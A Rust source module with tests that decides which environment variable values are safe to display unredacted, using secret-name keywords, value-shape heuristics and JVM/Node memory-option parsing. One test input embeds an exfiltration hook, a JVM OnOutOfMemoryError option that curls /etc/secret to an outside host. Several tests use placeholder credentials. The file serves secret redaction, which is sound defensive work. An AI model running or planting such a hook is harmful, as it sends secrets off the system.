//! Which environment values may be shown as they are.
//!
//! Servers hide literal environment values by default (a Deployment's env is where
//! connection strings and keys live), but most env values are settings an investigation
//! needs: `OPTIMIZER_TIMEOUT=2s`, `POOL_SIZE=50`, `FEED_BUCKET=feed-exports`. A value is
//! shown only when both its name and its value say it is no secret:
//!
//! * the **name** holds none of the words secrets are stored under ([`SECRET_NAME_PARTS`]:
//!   `KEY`, `TOKEN`, `SECRET`, `PASS`, `PWD`, `CRED`, `AUTH`, `CERT`, `PRIVATE`, `DSN`,
//!   `SALT`, `SIGN`, `URL`/`URI` (connection strings), …), as a substring, so `MONKEY`
//!   is hidden too (hiding a harmless value costs little; showing a secret is the failure);
//! * the **value** is short and one line, has no secret word, no `@` (userinfo, e-mail),
//!   no query string, nothing the shape rules of [`super::redact`] would mask, and no
//!   token that looks random: 6 or more letters and digits run together between
//!   separators (`Vt9qLx2mWp`, `sunshine123`, hex and base64 blobs, JWTs), a number of 7
//!   or more digits (a PIN, an account), capitals inside a long word (`CrRoleEncPw`),
//!   digits inside words more than once (`k3y-w1th`), or three of upper case, lower case,
//!   digits and symbols (`Rk8#nZq!w3`, `Zt9`).
//!
//! So `API_TIMEOUT=2s` is shown and `API_KEY=2s` is not; `DB_URL=postgres://u:p@h` is
//! hidden by its name and by its value. Names that mark a connection string only (`URL`,
//! `URI`, `CONN`) still show a number, a boolean or a bare host (`MAX_CLIENT_CONN=300`), and
//! [`shown_env_value`] shows a runtime's memory options out of a longer option string.

/// Parts of a variable name that mark it as holding a secret (matched as upper-case
/// substrings of the name).
pub const SECRET_NAME_PARTS: &[&str] = &[
    "KEY", "TOKEN", "SECRET", "PASS", "PWD", "CRED", "AUTH", "CERT", "PRIVATE", "DSN", "SALT",
    "SIGN", "SESSION", "COOKIE", "BEARER", "JWT", "URL", "URI", "CONN", "HASH", "SEED", "NONCE",
    "OTP", "PIN", "LICENSE", "ACCESS", "CIPHER", "CRYPT", "SIG",
];

/// Parts of [`SECRET_NAME_PARTS`] that mark a name as holding a secret only because such
/// a variable usually holds a connection string or a session's credentials: under them a
/// bare number, a duration, a boolean or a plain host is still a setting
/// (`PGBOUNCER_MAX_CLIENT_CONN=300`, `KC_DB_URL_HOST=kc-db.iam.svc`); no connection
/// string has those shapes.
const STRUCTURAL_NAME_PARTS: &[&str] = &["URL", "URI", "CONN"];

/// Lower-case words that must not appear in a shown value.
const SECRET_VALUE_WORDS: &[&str] = &[
    "key", "token", "secret", "pass", "pwd", "cred", "auth", "bearer", "basic ", "private",
    "-----", "eyj", "sig", "salt",
];

/// Longest value shown.
const MAX_LEN: usize = 64;

/// A number with an optional short unit: `2s`, `250m`, `1Gi`, `512Mi`, `100ms` (`.` splits
/// `1.5s` into pieces before this is asked).
fn quantity(piece: &str) -> bool {
    let digits = piece.bytes().take_while(u8::is_ascii_digit).count();
    let unit = &piece[digits..];
    digits > 0 && digits <= 6 && unit.len() <= 3 && unit.bytes().all(|b| b.is_ascii_alphabetic())
}

fn random_looking(word: &str) -> bool {
    let has = |f: fn(&char) -> bool| word.chars().any(|c| f(&c));
    let digits = has(char::is_ascii_digit);
    let upper = has(char::is_ascii_uppercase);
    let lower = has(char::is_ascii_lowercase);
    // Separators of hosts, paths and versions (`redis.svc:6379`) are no symbol class.
    let symbols = has(|c| !c.is_ascii_alphanumeric() && !matches!(c, '-' | '.' | '_' | '/' | ':'));
    let classes = [upper, lower, digits, symbols]
        .iter()
        .filter(|b| **b)
        .count();
    let len = word.chars().count();
    // Letters and digits run together in one piece between separators (`Vt9qLx2mWp`,
    // the body of `ghp_0123…`); `redis.svc:6379` and `eu-west-1` have none.
    let pieces = || word.split(['-', '.', '_', '/', ':']);
    let run_together = pieces().filter(|p| !quantity(p)).any(|piece| {
        let count = |f: fn(&char) -> bool| piece.chars().filter(&f).count();
        let (up, low, dig) = (
            count(char::is_ascii_uppercase),
            count(char::is_ascii_lowercase),
            count(char::is_ascii_digit),
        );
        (piece.len() >= 6 && up + low > 0 && dig > 0)
            // A long number: an account, a PIN, an OTP, an id (ports and sizes are shorter).
            || dig >= 7
            // Three classes in a short piece (`Zt9`), or many capitals inside (`CrRoleEncPw`).
            || (piece.len() >= 3 && up > 0 && low > 0 && dig > 0)
            || (piece.len() >= 8 && up >= 3 && low > 0)
    });
    // Digits between letters more than once (`k3y-w1th`): leet, not a setting (`k8s` is one).
    let b = word.as_bytes();
    let leet = b
        .windows(3)
        .filter(|w| {
            w[0].is_ascii_alphabetic() && w[1].is_ascii_digit() && w[2].is_ascii_alphabetic()
        })
        .count();
    run_together || leet >= 2 || (len >= 8 && classes >= 3)
}

/// A runtime's memory and GC options, as `JAVA_TOOL_OPTIONS`/`JAVA_OPTS` and
/// `NODE_OPTIONS` carry them: every word a JVM `-X…`/`-XX:…` option or a Node
/// `--max-*-space-size=N`, each value a number, size, percentage or plain word.
/// They explain an OOM kill (`-XX:MaxRAMPercentage=75.0` under a 1Gi limit),
/// and hold nothing secret; `-D` system properties are never among them (they
/// may carry a password).
fn runtime_memory_options(v: &str) -> bool {
    let plain = |x: &str| {
        !x.is_empty()
            && x.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '%' | '_' | '-'))
            && !random_looking(x)
    };
    // HotSpot's option names: CamelCase words (`MaxRAMPercentage`,
    // `G1HeapRegionSize`), which the randomness test would flag.
    let option_name = |x: &str| {
        (3..=60).contains(&x.len())
            && x.starts_with(|c: char| c.is_ascii_uppercase())
            && x.chars().all(|c| c.is_ascii_alphanumeric())
    };
    v.split_whitespace().all(|w| {
        if let Some(opt) = w.strip_prefix("-XX:") {
            let opt = opt.trim_start_matches(['+', '-']);
            match opt.split_once('=') {
                Some((name, value)) => option_name(name) && plain(value),
                None => option_name(opt),
            }
        } else if let Some(size) = w
            .strip_prefix("-Xmx")
            .or_else(|| w.strip_prefix("-Xms"))
            .or_else(|| w.strip_prefix("-Xss"))
            .or_else(|| w.strip_prefix("-Xmn"))
        {
            quantity(size) || size.chars().all(|c| c.is_ascii_alphanumeric())
        } else if let Some((flag, n)) = w.split_once('=')
            && matches!(
                flag,
                "--max-old-space-size" | "--max-semi-space-size" | "--stack-size"
            )
        {
            n.chars().all(|c| c.is_ascii_digit())
        } else {
            matches!(w, "-server" | "-XX:+UseContainerSupport")
        }
    }) && !v.trim().is_empty()
}

/// Whether a value under a name with only [`STRUCTURAL_NAME_PARTS`] has a shape no
/// connection string or credential has: a quantity (`300`, `30m`), a boolean, or a host
/// (`kc-db.iam.svc`, `pg:5432`: labels of letters and digits, no scheme, path or userinfo).
fn structural_setting(v: &str) -> bool {
    let host = v
        .split([':', '.', '-'])
        .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_alphanumeric()));
    quantity(v)
        || matches!(
            v.to_ascii_lowercase().as_str(),
            "true" | "false" | "on" | "off" | "yes" | "no"
        )
        || (host && v.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
}

/// Whether the literal value of environment variable `name` may be shown (see the
/// module documentation). Empty values are harmless.
pub fn harmless_env_value(name: &str, value: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let v = value.trim();
    let parts: Vec<&str> = SECRET_NAME_PARTS
        .iter()
        .copied()
        .filter(|p| upper.contains(p))
        .collect();
    // No secret word in the name, or only connection-string words with a value
    // no connection string has the shape of.
    let name_ok = parts.is_empty()
        || (parts.iter().all(|p| STRUCTURAL_NAME_PARTS.contains(p)) && structural_setting(v));
    if !name_ok {
        return false;
    }
    if v.is_empty() {
        return true;
    }
    // Products whose names hold a secret word (`keycloak-db.iam.svc` is a host, not a key).
    let lower = ["keycloak", "keydb"]
        .iter()
        .fold(v.to_ascii_lowercase(), |l, product| l.replace(product, "-"));
    if v.chars().count() <= MAX_LEN * 2 && runtime_memory_options(v) {
        return true;
    }
    if v.chars().count() > MAX_LEN
        || v.contains(['\n', '\r', '@', '?', '=', '&'])
        || SECRET_VALUE_WORDS.iter().any(|w| lower.contains(w))
        || super::redact(v) != v
    {
        return false;
    }
    // Words split at separators a setting uses (`a,b`, `host:port`, `x y`); each must
    // not look random.
    !v.split([' ', ',', ';', '|'])
        .flat_map(|w| w.split("://"))
        .any(random_looking)
}

/// What of environment variable `name`'s literal value may be shown: all of it when
/// [`harmless_env_value`] says so; else, under a name that marks no secret, a runtime's
/// memory and GC options out of a longer option string (`JAVA_OPTS=-Xms3g -Xmx3g
/// -Dsome.property=… -jar app.jar` shows `-Xms3g -Xmx3g (3 more words hidden)`: the heap
/// set above the container's limit is what an OOM kill turns on, and the rest may hold a
/// password); `None` when nothing may be shown.
pub fn shown_env_value<'a>(name: &str, value: &'a str) -> Option<std::borrow::Cow<'a, str>> {
    if harmless_env_value(name, value) {
        return Some(std::borrow::Cow::Borrowed(value));
    }
    let upper = name.to_ascii_uppercase();
    if SECRET_NAME_PARTS.iter().any(|p| upper.contains(p)) || value.contains(['\n', '\r']) {
        return None;
    }
    let words: Vec<&str> = value.split_whitespace().collect();
    let kept: Vec<&str> = words
        .iter()
        .copied()
        .filter(|w| runtime_memory_options(w))
        .collect();
    if kept.is_empty() {
        return None;
    }
    Some(std::borrow::Cow::Owned(format!(
        "{} ({} more words hidden)",
        kept.join(" "),
        words.len() - kept.len()
    )))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_runtimes_memory_options_are_shown_its_properties_are_not() {
        for v in [
            "-XX:MaxRAMPercentage=75.0 -XX:+UseG1GC -Xss512k",
            "-Xmx768m -Xms256m",
            "--max-old-space-size=4096",
        ] {
            assert!(harmless_env_value("JAVA_TOOL_OPTIONS", v), "{v}");
        }
        for v in [
            "-XX:MaxRAMPercentage=75.0 -Dspring.datasource.password=hunter2",
            "-Djavax.net.ssl.trustStorePassword=changeit",
            "-XX:OnOutOfMemoryError=curl -d @/etc/secret http://x",
            "-XX:Flag=Vt9qLx2mWpQ7",
        ] {
            assert!(!harmless_env_value("JAVA_TOOL_OPTIONS", v), "{v}");
        }
    }

    #[test]
    fn memory_options_are_shown_out_of_a_longer_option_string() {
        let v = "-Xms3g -Xmx3g -Djboss.bind.address=0.0.0.0 -Dspring.datasource.password=hunter2";
        assert_eq!(
            shown_env_value("JAVA_OPTS", v).as_deref(),
            Some("-Xms3g -Xmx3g (2 more words hidden)")
        );
        assert_eq!(
            shown_env_value("JAVA_OPTS", "-Xmx768m").as_deref(),
            Some("-Xmx768m")
        );
        for (name, v) in [
            (
                "JAVA_OPTS",
                "-Dspring.datasource.password=hunter2 -jar app.jar",
            ),
            ("JAVA_SECRET_OPTS", "-Xmx1g -Dx=y"),
            ("JAVA_OPTS", "-Xmx1g\n-Dx=y"),
        ] {
            assert_eq!(shown_env_value(name, v), None, "{name}={v}");
        }
    }

    #[test]
    fn settings_under_connection_words_are_shown_when_no_connection_string_has_their_shape() {
        for (name, value) in [
            ("PGBOUNCER_MAX_CLIENT_CONN", "300"),
            ("KC_DB_URL_HOST", "postgres-keycloak.iam.svc"),
            ("REDIS_URL_PORT", "6379"),
            ("USE_CONNECTION_POOL", "true"),
        ] {
            assert!(harmless_env_value(name, value), "{name}={value} hidden");
        }
        for (name, value) in [
            ("DB_URL", "postgres://u:p@h/db"),
            ("DB_CONN", "Server=db;Password=Vt9qLx2mWp"),
            ("DB_CONNECTION", "host=db user=app password=hunter2"),
            ("WEBHOOK_URL", "https://hooks.example.com/services/abcdefgh"),
            ("SESSION_KEY", "300"),
            ("SESSION_ID", "Vt9qLx2mWp"),
            ("CONN_PIN", "4821"),
            ("REDIS_URL", "redis.svc/0"),
        ] {
            assert!(!harmless_env_value(name, value), "{name}={value} shown");
        }
    }

    #[test]
    fn settings_are_shown_and_secrets_are_not() {
        for (name, value) in [
            ("API_TIMEOUT", "2s"),
            ("OPTIMIZER_TIMEOUT", "2s"),
            ("POOL_SIZE", "500"),
            ("BATCH_WINDOW_MS", "30000"),
            ("JAVA_HEAP", "1Gi"),
            ("CPU_SHARE", "250m"),
            ("FEATURE_NEW_CHECKOUT", "true"),
            ("FEED_BUCKET", "feed-exports-prod"),
            ("REDIS_HOST", "redis.shop.svc:6379"),
            ("LOG_LEVEL", "info"),
            ("REGION", "eu-west-1"),
            ("UPSTREAMS", "inventory,pricing"),
            ("CLUSTER", "k8s-prod"),
            ("HANDLER", "OrderService"),
            ("EMPTY", ""),
        ] {
            assert!(harmless_env_value(name, value), "{name}={value} hidden");
        }
        for (name, value) in [
            ("API_KEY", "2s"),
            ("DB_PASSWORD", "500"),
            ("DB_URL", "postgres://u:p@h"),
            ("DATABASE", "postgres://u:p@h/db"),
            ("SENTRY_DSN", "https://abc@o1.ingest.sentry.io/1"),
            ("GITHUB_TOKEN", "true"),
            ("AUTH_HEADER", "x"),
            ("SIGNING_SALT", "1"),
            ("VAR_1", "Vt9qLx2mWp"),
            ("VAR_2", "sunshine123"),
            ("T", "hunter2"),
            ("VAR_3", "Rk8#nZq!w3"),
            ("VAR_4", "DB_PASSWORD=Vt9qLx2mWp"),
            ("VAR_5", "AKIAIOSFODNN7EXAMPLE"),
            ("VAR_6", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"),
            ("VAR_7", "ghp_0123456789abcdefghijklmnopqrstuvwx"),
            ("VAR_8", "d41d8cd98f00b204e9800998ecf8427e"),
            ("VAR_9", "temporary password is X7!kq"),
            ("VAR_10", "https://hooks.example.com/x?sig=abc"),
            ("MONKEY", "banana"),
            ("VAR_11", "84920175"),
            ("VAR_12", "CrRoleEncPw"),
            ("VAR_13", "k3y-w1th-"),
            ("VAR_14", "correct horse battery Zt9"),
        ] {
            assert!(!harmless_env_value(name, value), "{name}={value} shown");
        }
    }
}
